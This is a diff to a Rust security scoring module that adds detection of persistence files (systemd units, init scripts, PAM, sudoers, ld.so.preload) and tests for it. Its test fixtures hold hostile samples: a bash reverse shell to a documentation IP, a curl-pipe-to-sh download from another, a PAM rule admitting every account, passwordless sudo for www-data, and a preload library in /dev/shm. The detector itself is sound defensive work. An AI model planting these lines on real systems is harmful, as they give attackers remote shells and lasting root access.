@@ -208,8 +208,10 @@ fn command_patterns(text: &str, c: &mut Collector) {
         return;
     }
     let t = text.to_ascii_lowercase();
+    // Quotes, parentheses and backticks wrap commands (`sh -c "curl …"`,
+    // `$(wget …)`): they separate words too.
     let words: Vec<&str> = t
-        .split(|ch: char| ch.is_whitespace() || ch == ';' || ch == '|' || ch == '&')
+        .split(|ch: char| ch.is_whitespace() || matches!(ch, ';' | '|' | '&' | '"' | '\'' | '(' | ')' | '`' | '$'))
         .filter(|w| !w.is_empty())
         .collect();
     let first = words.first().map(|w| basename(w)).unwrap_or("");
@@ -289,6 +291,50 @@ fn executable_path(path: &str, c: &mut Collector) {
     let b = basename(path).to_ascii_lowercase();
     if let Some(tool) = TOOLS.iter().find(|tool| b == **tool || (tool.len() >= 6 && b.starts_with(**tool))) {
         c.add(5.0, format!("known attack tool or miner name ({tool})"));
+    }
+}
+
+/// A file where persistence lives: what it runs, what it loads, what it grants.
+fn persistence(row: &Row, c: &mut Collector) {
+    let path = get(row, "path");
+    let target = get(row, "target");
+    // Contents come with line breaks as `\n`: read them line by line.
+    let content = get(row, "content").replace("\\n", "\n");
+    for line in content.lines() {
+        let l = line.trim();
+        if l.starts_with('#') || l.starts_with("//") || l.is_empty() {
+            continue;
+        }
+        command_patterns(l, c);
+        let low = l.to_ascii_lowercase();
+        if low.contains("pam_exec") {
+            c.add(4.0, "pam_exec runs a program at every login");
+        }
+        if low.contains("pam_succeed_if") && low.contains("uid >= 0") {
+            c.add(6.0, "a PAM rule that lets every account in (pam_succeed_if uid >= 0)");
+        }
+        if low.contains("nopasswd") && low.contains("all") && (path.contains("sudoers") || low.contains("all=(")) {
+            c.add(3.0, "passwordless sudo for everything");
+        }
+        if low.contains("ld_preload=") || low.contains("ld_audit=") || low.contains("ld_library_path=") {
+            c.add(4.0, "sets a dynamic-linker variable (LD_PRELOAD, LD_AUDIT, LD_LIBRARY_PATH)");
+        }
+        if (path == "/etc/ld.so.preload" || path.starts_with("/etc/ld.so.conf")) && mentions_tmp(l).is_some() {
+            c.add(6.0, "a preload library in a world-writable directory");
+        }
+        if low.contains("cap_setuid") || low.contains("cap_sys_admin") {
+            c.add(3.0, "grants a capability that amounts to root");
+        }
+    }
+    if path == "/etc/ld.so.preload" && !content.trim().is_empty() {
+        c.add(3.0, "preloads a library into every process");
+    }
+    if let Some(dir) = tmp_dir_of(target) {
+        c.add(5.0, format!("points into a world-writable directory ({dir})"));
+    }
+    // Start-up files are hidden by name (.bashrc): only a target is judged.
+    if has_hidden_component(target) {
+        c.add(2.5, "hidden file or directory in a path");
     }
 }
 
@@ -391,6 +437,7 @@ pub fn assess(kind: QueryKind, row: &Row, finding: FindingKind) -> Assessment {
             command_patterns(get(row, "path"), &mut c);
         }
         QueryKind::ShellHistory => {}
+        QueryKind::Persistence => persistence(row, &mut c),
         QueryKind::Other => {
             for v in row.values() {
                 if v.starts_with('/') && !v.contains(char::is_whitespace) {
@@ -414,6 +461,36 @@ mod tests {
 
     fn sev(kind: QueryKind, pairs: &[(&str, &str)]) -> f64 {
         assess(kind, &row(pairs), FindingKind::Rare).severity
+    }
+
+    #[test]
+    fn persistence_files_are_read_for_what_they_run() {
+        let p = |path: &str, target: &str, content: &str| {
+            assess(
+                QueryKind::Persistence,
+                &row(&[("path", path), ("kind", "file"), ("target", target), ("content", content)]),
+                FindingKind::Rare,
+            )
+        };
+        let unit = p(
+            "/etc/systemd/system/x.service",
+            "",
+            r#"[Service]\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"\n"#,
+        );
+        assert!(unit.indicators.contains(&"reverse-shell pattern".to_string()), "{unit:?}");
+        let pre = p("/etc/ld.so.preload", "", r"/dev/shm/.libaudit.so\n");
+        assert!(pre.indicators.iter().any(|i| i.contains("world-writable")), "{pre:?}");
+        assert!(pre.severity >= 6.0);
+        let pam = p("/etc/pam.d/sshd", "", r"auth sufficient pam_succeed_if.so uid >= 0 quiet\n@include common-auth\n");
+        assert!(pam.indicators[0].contains("pam_succeed_if"), "{pam:?}");
+        let sudo = p("/etc/sudoers.d/90-x", "", r"www-data ALL=(ALL) NOPASSWD: ALL\n");
+        assert!(sudo.indicators.iter().any(|i| i.contains("passwordless sudo")), "{sudo:?}");
+        let link = p("/etc/rc2.d/S99x", "/dev/shm/.x/run", "");
+        assert!(link.indicators.iter().any(|i| i.contains("points into a world-writable")), "{link:?}");
+        let init = p("/etc/init.d/x", "", r#"#!/bin/sh\nnohup sh -c "curl -fsSL http://198.51.100.77/n | sh" &\n"#);
+        assert!(init.indicators.contains(&"downloads and runs code".to_string()), "{init:?}");
+        let plain = p("/etc/profile.d/locale.sh", "", r"export LANG=C.UTF-8\n");
+        assert_eq!(plain.severity, 1.0, "{plain:?}");
     }
 
     #[test]
